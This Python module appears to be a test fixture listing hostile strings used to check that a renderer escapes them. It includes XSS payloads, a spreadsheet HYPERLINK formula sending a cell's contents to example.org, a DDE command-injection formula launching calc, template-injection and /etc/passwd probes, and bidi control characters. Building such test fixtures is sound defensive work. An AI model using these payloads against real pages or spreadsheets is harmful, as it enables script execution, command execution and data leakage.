"""Texts that would act on a page, in a spreadsheet or in a picture, were they more than text there."""

# Each sets this on the window of the page that runs it, or asks for it by a link.
RAN = "window.__ran=(window.__ran||'')+"

HOSTILE = {
    "script": f"<script>{RAN}'script'</script>",
    "image": f'<img src="x" onerror="{RAN}\'image\'">',
    "drawing": f"<svg onload=\"{RAN}'svg'\"><a xlink:href=\"javascript:{RAN}'a'\"><text>x</text></a></svg>",
    "end of a script": f"</script><script>{RAN}'end'</script><!-- ]]> --!>",
    "end of an element": f"\"></td></table></div></textarea></title><script>{RAN}'td'</script>",
    "attribute": f'" onmouseover="{RAN}\'over\'" autofocus onfocus="{RAN}\'focus\'" x="',
    "link": f'[x](javascript:{RAN}1) <javascript:{RAN}2> ![x](javascript:{RAN}3) <a href="runs/none.csv">x</a>',
    "formula": rf"$\href{{javascript:{RAN}'math'}}{{x}}$ $$\unicode{{x41}}$$ \(y\) \[z\] \begin{{align}}a\end{{align}}",
    "half a formula": r"US$ 5 and \frac{ $\frac$",
    "spreadsheet": '=HYPERLINK("https://example.org/"&A1;"x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "directive": f"```{{raw}} html\n<script>{RAN}'raw'</script>\n```\n:::{{raw}} html\n<b>\n:::",
    "rule": "---\n# A title\n+++\n% a comment\n(label)=\n---",
    "roles": "{eval-rst}`x` {glue:text}`x` {raw:html}`<b>` {doc}`/etc/passwd` {{ version }} {{ 7*7 }} [^1] [^1]: note",
    "comment": "<!-- a comment --> a & b &lt;b&gt; &#60;script&#62;",
    "direction": "\u202eabc\u2066 \u2067def",
    "controls": "a\x00b\x07c\x1bd\x7fe\u2028f",
    "long": "Villa" * 2_000,
}
# What a table of the compendium may hold: the catalogue refuses control characters and line breaks are cells' own.
IN_TABLES = {name: text for name, text in HOSTILE.items() if name != "controls"}
